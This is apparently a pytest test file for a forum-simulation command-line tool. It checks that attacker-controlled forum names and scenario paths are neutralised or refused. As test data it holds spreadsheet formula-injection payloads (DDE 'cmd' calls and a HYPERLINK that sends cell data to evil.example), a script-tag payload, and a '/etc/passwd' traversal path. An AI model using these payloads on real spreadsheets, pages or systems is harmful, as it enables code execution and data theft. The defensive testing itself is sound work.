"""Hostile input: tables scraped from the fora (attacker-controlled names, absurd values),
files that are pipes or devices, scenario files that point outside their folder. Nothing
leaks, nothing hangs, nothing is silently wrong: each case ends in one line naming the file
(and row and column), exit code 2, and nothing written; or, where the input is merely
odd, in output that is safe to open. Every case runs the real command in its own process.
"""

from __future__ import annotations

import csv
import json
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

SRC = str(Path(__file__).parents[1] / "src")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def forumsim(*args: object, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    """`forumsim ARGS` in a process of its own, in the folder `cwd`."""
    env = {**os.environ, "PYTHONPATH": SRC, "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "forumsim.ui.cli", *map(str, args)], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=timeout)


def refused(done: subprocess.CompletedProcess, *words: str) -> str:
    """The one line of a refusal (exit 2, no traceback), which holds each of `words`."""
    message = done.stderr.strip()
    assert done.returncode == 2, done.stderr + done.stdout
    assert "\n" not in message and "Traceback" not in done.stderr, done.stderr
    assert message.startswith("error: "), message
    for word in words:
        assert word in " ".join(message.split()), f"{word!r} not in {message!r}"
    return message


HOSTILE_NAMES = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)',
                 "<script>alert(1)</script>", "$\\frac{$x", "@SUM(1+1)*cmd|' /C calc'!A0"]


def write_posts(path: Path, fora: list[str], threads: int = 60, seed: int = 1) -> Path:
    """A posts table of `fora`, each with `threads` threads of one to four posts."""
    rng = random.Random(seed)
    rows, post = [], 0
    for name in fora:
        for thread in range(threads):
            first, day = None, rng.randint(1, 25)
            for k in range(rng.randint(1, 4)):
                post += 1
                rows.append([post, thread, name, f"u{rng.randint(0, 80)}",
                             f"2021-0{1 + thread % 6}-{day:02d}T{k:02d}:00:00Z", first or ""])
                first = first or post
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["post_id", "thread_id", "forum", "author", "timestamp", "reply_to"])
        writer.writerows(rows)
    return path


# --- 6. names from a scraped table: no formula reaches a spreadsheet, no markup a page ----


@pytest.fixture(scope="module")
def hostile_sweep(tmp_path_factory) -> Path:
    """A sweep (with a variant whose label starts with '-') of a scenario started from a
    posts table whose forum names are formulas, markup and TeX; run through the command."""
    folder = tmp_path_factory.mktemp("hostile")
    write_posts(folder / "posts.csv", HOSTILE_NAMES)
    (folder / "scraped.yaml").write_text(
        "extends: small\nname: scraped\nstart_from: posts.csv\ndays: 60\n"
        "interventions: [{type: takedown, day: 30, target: largest}]\n")
    (folder / "sweep.yaml").write_text(
        "base: scraped.yaml\nparameters:\n  interventions:\n    variants:\n"
        "      none: []\n      -seize: [{type: takedown, day: 30, target: largest}]\n"
        "replicates: 2\nseed: 4\n")
    done = forumsim("sweep", "sweep.yaml", "--out", "sweep", "--executor", "inline", "-q",
                    cwd=folder)
    assert done.returncode == 0, done.stderr
    return folder


def test_no_cell_of_an_export_starts_a_spreadsheet_formula(hostile_sweep):
    done = forumsim("export", "sweep", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    cells = {}
    for name in ("runs.csv", "series.csv"):
        with (hostile_sweep / "sweep" / "csv" / name).open(newline="") as handle:
            rows = list(csv.reader(handle))
        cells[name] = [cell for row in rows for cell in row]
        assert not [c for c in cells[name] if c.startswith(FORMULA_STARTS)], name
        assert "'-seize" in cells[name]  # the variant's label, neutralised
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells["runs.csv"]  # the seized forum's name


def test_names_from_a_table_are_never_markup_in_a_report(hostile_sweep):
    done = forumsim("report", "sweep", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    page = (hostile_sweep / "sweep" / "report.html").read_text()
    assert "<script>alert" not in page


def test_a_run_from_a_table_with_tex_in_its_forum_names_draws_them_as_written(hostile_sweep):
    done = forumsim("run", "scraped.yaml", "--out", "run", "-q", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    assert len(list((hostile_sweep / "run" / "figures").glob("*.png"))) == 6


def test_only_text_a_spreadsheet_would_run_is_neutralised():
    from forumsim.experiment.export import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("\tx") == "'\tx"
    assert spreadsheet_safe("-1") == "'-1" and spreadsheet_safe(-1) == -1
    assert spreadsheet_safe("Forum A") == "Forum A"


# --- 7. extends: and base: stay in the scenario's folder tree ------------------------------


def test_a_link_in_the_folder_to_a_file_elsewhere_is_not_followed(tmp_path):
    secret = tmp_path / "elsewhere" / "secret.yaml"
    secret.parent.mkdir()
    secret.write_text("token_abc123: 1\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "base.yaml").symlink_to(secret)
    (project / "scenario.yaml").write_text("extends: base.yaml\ndays: 30\n")
    message = refused(forumsim("run", "scenario.yaml", "--out", "out", cwd=project),
                      "field 'extends' names base.yaml, which is outside")
    assert "token_abc123" not in message and not (project / "out").exists()


def test_a_calibrations_base_outside_its_folder_is_refused_without_showing_it(tmp_path):
    (tmp_path / "calibration.yaml").write_text(
        "base: /etc/passwd\nparameters: {behaviour.reply_share: {uniform: [0.2, 0.9]}}\n"
        "targets: {published: {reply_share: {value: 0.5, tolerance: 0.1}}}\n"
        "fit: [reply_share]\n")
    message = refused(forumsim("calibrate", "calibration.yaml", "--out", "cal", cwd=tmp_path),
                      "field 'base' names /etc/passwd, which is outside")
    assert "root:" not in message and not (tmp_path / "cal").exists()
